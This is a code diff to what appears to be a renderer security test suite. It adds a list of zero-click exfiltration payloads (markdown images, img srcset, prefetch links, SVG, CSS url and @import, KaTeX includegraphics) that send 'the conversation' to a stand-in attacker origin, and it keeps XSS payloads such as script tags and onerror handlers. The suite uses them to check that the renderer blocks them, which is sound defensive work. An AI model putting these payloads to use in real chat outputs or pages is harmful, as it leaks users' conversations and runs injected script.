@@ -3,6 +3,33 @@
 // "evil" origin (EVIL, given by the suite) — each of which the suite watches for.
 export function payloads(EVIL) {
   const run = 'window.__pwned=1;top.__xss&&top.__xss();alert(1)'
+  return [...scripting(EVIL, run), ...exfiltration(EVIL.replace(/^http:/, 'https:'))]
+}
+
+/**
+ * Fetches that would carry the conversation to the attacker with no click, over `https:` (the
+ * scheme a frame CSP of `img-src https:` let through, issue 20): every way markdown, HTML or CSS
+ * can make a browser request an image, a stylesheet or a prefetch.
+ */
+export function exfiltration(HTTPS) {
+  const d = '?d=the%20conversation'
+  return [
+    `![https exfil](${HTTPS}/md.png${d})`,
+    `![https exfil ref][exfil]\n\n[exfil]: ${HTTPS}/md-ref.png${d}`,
+    `[![https exfil in link](${HTTPS}/md-link.png${d})](${HTTPS}/page)`,
+    `<img src="${HTTPS}/img.png${d}">`,
+    `<img srcset="${HTTPS}/srcset.png${d} 1x, ${HTTPS}/srcset2.png${d} 2x">`,
+    `<picture><source srcset="${HTTPS}/picture.png${d}"><img src="${HTTPS}/picture-img.png${d}"></picture>`,
+    `<link rel="prefetch" href="${HTTPS}/prefetch${d}"><link rel="preload" as="image" href="${HTTPS}/preload.png${d}">`,
+    `<link rel="icon" href="${HTTPS}/favicon.ico${d}">`,
+    `<svg><image href="${HTTPS}/svg-image.png${d}"/></svg>`,
+    `<span style="background-image:url(${HTTPS}/css-inline.png${d})">https css url</span>`,
+    `<style>@import url(${HTTPS}/import.css${d});body{background:url(${HTTPS}/css-sheet.png${d})}</style>`,
+    `$\\includegraphics[height=1em]{${HTTPS}/katex.png${d}}$`,
+  ]
+}
+
+function scripting(EVIL, run) {
   return [
     `<script>${run}</script>`,
     `<img src=x onerror="${run}">`,
